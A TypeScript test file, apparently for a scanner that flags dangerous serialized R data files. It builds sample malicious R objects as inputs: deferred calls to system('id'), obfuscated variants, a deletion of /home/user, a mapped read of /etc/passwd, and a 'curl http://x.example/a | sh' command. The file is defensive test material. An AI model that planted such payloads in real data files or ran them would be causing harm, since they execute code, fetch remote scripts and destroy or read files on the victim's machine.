import { zlibSync } from 'fflate';
import { PAYLOAD, bytes, proto, run } from '../../../../testing';
import {
  NIL,
  closure,
  environment,
  language,
  list,
  numbers,
  pairs,
  promise,
  rds,
  symbol,
  words,
  workspace
} from '../../../../testing/r-builder';
import { be32, join } from '../../../../testing/bytes';

const SYSTEM = language(symbol('system'), words('id'));
const text = (name: string, ...values: readonly Uint8Array[]): Uint8Array => language(symbol(name), ...values);

test.each([
  ['numbers', numbers(1, 2, 3)],
  ['a call', text('lm', text('~', symbol('y'), symbol('x')))],
  ['a column of that name in a formula', text('~', symbol('y'), text('factor', symbol('system')))],
  ['an assignment to such a name', closure(text('<-', symbol('system'), numbers(1)))],
  ['a variable that has the name of a function', text('~', symbol('y'), symbol('system'))],
  ['a function', closure(text('+', symbol('x'), numbers(1)))],
  ['an argument that nobody looked at', environment(pairs({ data: promise(symbol('iris')) }))],
  ['one that was evaluated', environment(pairs({ data: promise(text('nrow', symbol('x')), numbers(1)) }))]
])('honest: %s', (_name, value) => {
  expect(run(rds(value), {}, 'm.rds')).toMatchObject({ verdict: 'clean', format: 'r-data' });
});

test.each([
  ['a promise instead of a value', promise(SYSTEM)],
  ['a promise of a harmless call', promise(text('nrow', symbol('x')))],
  ['a promise in a list', list(promise(SYSTEM))],
  ['an argument that runs a program', environment(pairs({ data: promise(SYSTEM) }))],
  ['a promise in a list of an environment', environment(pairs({ data: list(promise(text('f'))) }))],
  ['a function', closure(SYSTEM)],
  ['a call', SYSTEM],
  ['a function in parentheses', language(text('(', symbol('system')), words('id'))],
  ['of a package', language(text('::', symbol('base'), symbol('system')), words('id'))],
  ['by its name', closure(text('do.call', words('system'), text('list', words('id'))))],
  ['by a name in pieces', closure(text('do.call', text('paste0', words('sys'), words('tem')), words('id')))],
  ['handed on', closure(text('lapply', words('id'), symbol('system')))],
  ['under another name', closure(text('<-', symbol('f'), symbol('system')))],
  ['source code', closure(text('eval', text('parse', words("system('id')"))))],
  ['a function of the C library', closure(text('.C', words('system'), words('id')))],
  ['a primitive', bytes(be32(6), be32(8), be32(6), 'system', be32(2), words('id'), NIL)],
  ['a file that is deleted', closure(text('unlink', words('/home/user')))]
])('harmful: %s', (_name, value) => {
  expect(run(rds(value), {}, 'm.rds').verdict).toBe('unsafe');
});

test('values in values, many thousands deep', () => {
  const depth = 50_000;
  const nested = bytes(...Array.from({ length: depth }, () => bytes(be32(19), be32(1))), closure(SYSTEM));
  expect(run(rds(nested), {}, 'm.rds').verdict).toBe('unsafe');
});

test('a workspace with a function for the start', () => {
  expect(run(workspace({ '.First': closure(NIL) }), {}, 'm.rda').verdict).toBe('unsafe');
  expect(run(workspace({ first: closure(symbol('x')) }), {}, 'm.rda').verdict).toBe('clean');
});

test('a vector whose elements are in a file', () => {
  const pair = (...values: readonly Uint8Array[]): Uint8Array =>
    bytes(...values.map(value => bytes(be32(2), value)), NIL);
  const mapped = bytes(
    be32(238),
    pair(symbol('mmap_real'), symbol('base'), numbers(14)),
    pair(words('/etc/passwd'), numbers(8)),
    NIL
  );
  expect(run(rds(mapped), {}, 'm.rds').verdict).toBe('unsafe');
});

test('text: the same values', () => {
  const data = bytes('A\n2\n262656\n131840\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n');
  expect(run(data, {}, 'm.rds')).toMatchObject({ verdict: 'unsafe', format: 'r-data' });
  expect(run(bytes('A\n 2 262656 131840 6 1 262153 6 system 2 16 1 262153 2 id 254 '), {}, 'm.rds').verdict).toBe(
    'unsafe'
  );
  const honest = bytes('A\n2\n262656\n131840\n16\n1\n262153\n3\na\\nb\n');
  expect(run(honest, {}, 'm.rds')).toMatchObject({ verdict: 'clean', format: 'r-data' });
});

test('what stands behind, and what breaks off', () => {
  const behind = run(bytes(rds(numbers(1)), proto(2, PAYLOAD)), {}, 'm.rds');
  expect(behind.verdict).toBe('unsafe');
  expect(run(bytes(rds(numbers(1)), 1, 2, 3), {}, 'm.rds').verdict).toBe('incomplete');
  expect(run(rds(bytes(be32(16), be32(2 ** 30))), {}, 'm.rds').verdict).toBe('incomplete');
  expect(run(rds(bytes(be32(1), 'system("curl x | sh")')), {}, 'm.rds').verdict).toBe('unsafe');
});

const SYMBOLS = Array.from({ length: 310_000 }, (_, i) => bytes(be32(1), be32(9), be32(6), String(100_000 + i)));

test.each([
  ['calls inside calls', Uint8Array.from({ length: 4 * 200_000 }, (_, i) => (i % 4 === 3 ? 6 : 0)), 'limit-depth'],
  ['symbols without end', join([bytes(be32(19), be32(310_000)), ...SYMBOLS]), 'limit-members']
])('%s are followed so far', (_name, value, reason) => {
  expect(run(rds(value), {}, 'm.rds')).toMatchObject({ verdict: 'incomplete', coverage: [{ reason }] });
});

test.each([
  ['a call that runs a program', "system('id')", 'MEDIUM'],
  ['a command', 'curl http://x.example/a | sh', 'MEDIUM'],
  ['a sentence', 'The system (see below) has a pipe (of 2 m)', undefined],
  ['a source', 'source: https://example.org', undefined]
])('among texts: %s', (_name, value, severity) => {
  expect(run(rds(words('a', value)), {}, 'm.rds').findings.map(finding => finding.severity)).toEqual(
    severity === undefined ? [] : [severity]
  );
});

test('compiled code that names a function which no expression in it calls', () => {
  const code = (...constants: readonly Uint8Array[]): Uint8Array =>
    closure(bytes(be32(21), be32(1), numbers(12, 0), be32(constants.length), ...constants));
  const severities = (value: Uint8Array): string[] => run(rds(value), {}, 'm.rds').findings.map(one => one.severity);
  expect(severities(code(bytes(be32(1), symbol('system')), bytes(be32(16), words('id'))))).toEqual(['MEDIUM']);
});

test('what breaks off in the middle of a call', () => {
  expect(run(rds(promise(SYSTEM)).slice(0, -3), {}, 'm.rds').findings).toMatchObject([{ severity: 'MEDIUM' }]);
});

test('the format of R before 1.4', () => {
  const report = run(bytes('RDX1\n', be32(2), be32(6), 'system', be32(2), 'id'), {}, 'm.rda');
  expect(report).toMatchObject({ format: 'r-data', findings: [{ severity: 'MEDIUM', rule: 'r-code-text' }] });
  expect(report.coverage).toMatchObject([{ status: 'not-understood', reason: 'unsupported-format' }]);
});

describe('a database of values', () => {
  const honest = rds(numbers(1, 2));
  const evil = rds(promise(SYSTEM));
  const entry = (value: Uint8Array, packed: Uint8Array = zlibSync(value)): Uint8Array =>
    bytes(be32(value.length), packed);
  const stored = (value: Uint8Array): Uint8Array =>
    entry(value, bytes('Z', 1, [(value.length - 1) >> 8, (value.length - 1) & 255], value, 0));

  test('is read value by value', () => {
    const report = run(bytes(entry(honest), stored(honest), entry(honest)), {}, 'base.rdb');
    expect(report).toMatchObject({ format: 'r-database', verdict: 'clean' });
    expect(report.coverage).toHaveLength(4);
  });

  test.each([
    ['first', bytes(entry(evil), entry(honest))],
    ['last', bytes(entry(honest), stored(honest), entry(evil))],
    ['packed otherwise', bytes(entry(honest), stored(evil))]
  ])('with one that runs a program: %s', (_, data) => {
    const rules = run(data, {}, 'base.rdb').findings.map(({ severity, rule }) => `${severity} ${rule}`);
    expect(rules).toEqual(['CRITICAL r-promise', 'HIGH r-promise']);
  });

  test('is not understood beyond a value of no known kind', () => {
    expect(run(bytes(entry(honest), be32(4), 'xxxx'), {}, 'base.rdb').verdict).toBe('incomplete');
  });
});
